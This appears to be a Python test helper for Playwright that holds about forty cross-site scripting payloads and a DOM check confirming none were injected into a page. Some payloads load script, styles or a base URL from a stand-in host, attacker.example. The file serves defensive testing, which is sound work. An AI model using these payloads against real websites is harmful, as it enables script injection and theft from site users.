"""Forty ways to get script into a page, and how one sees that none got in."""

from playwright.sync_api import Page

# None is longer than the shortest field that takes words: a first name (80).
PAYLOADS = """
<script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script src=//attacker.example/x.js></script>
<script/src=data:,alert(1)>
<img src=x onerror=alert(1)>
"><img src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)//
' onmouseover=alert(1) x='
" autofocus onfocus=alert(1) x="
` onmouseover=alert(1) `
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a>
<math><mtext><style><img src=x onerror=alert(1)></style>
<body onload=alert(1)>
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="java&#10;script:alert(1)">x</a>
[x](javascript:alert(1))
![x](x "onerror=alert(1)")
<form action=javascript:alert(1)><button>x
<details open ontoggle=alert(1)>
<marquee onstart=alert(1)>
<base href=//attacker.example/>
<meta http-equiv=refresh content=0;url=javascript:alert(1)>
<style>@import '//attacker.example/x.css'</style>
<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
""".strip().splitlines()

# What stands in no page of ours: a handler in an attribute, a script or style in the text, a frame, an odd address, an
# element that nobody knows.
STRANGERS = """(root) => [...(root || document).querySelectorAll("*")].filter((each) =>
    ["IFRAME", "OBJECT", "EMBED", "BASE", "MARQUEE", "MATH", "STYLE"].includes(each.tagName.toUpperCase())
    || each instanceof HTMLUnknownElement
    || each.matches("script:not([src]), [src*='attacker'], link[href*='attacker'], meta[http-equiv=refresh], img[src=x]")
    || [...each.attributes].some(({name, value}) => /^(on|hx-on)/.test(name)
        || ["href", "src", "action", "xlink:href"].includes(name) && /^\\s*(java\\s*script|data:(?!image))/i.test(value))
).map((each) => each.outerHTML.slice(0, 200))"""


# Which of several pages, each as written, hold any of them; nothing of it runs.
HARMLESS = f"""(pages) => pages.filter((page) =>
    !({STRANGERS})(new DOMParser().parseFromString(page, "text/html")).length)"""


def batches(most: int) -> list[str]:
    """All of them in as few texts as fit into a field."""
    made = [""]
    for payload in PAYLOADS:
        if len(made[-1]) + 1 + len(payload) > most:
            made.append("")
        made[-1] = f"{made[-1]} {payload}".strip()
    return made


def nothing_got_in(page: Page) -> None:
    assert page.evaluate(STRANGERS) == [], page.url[:80]
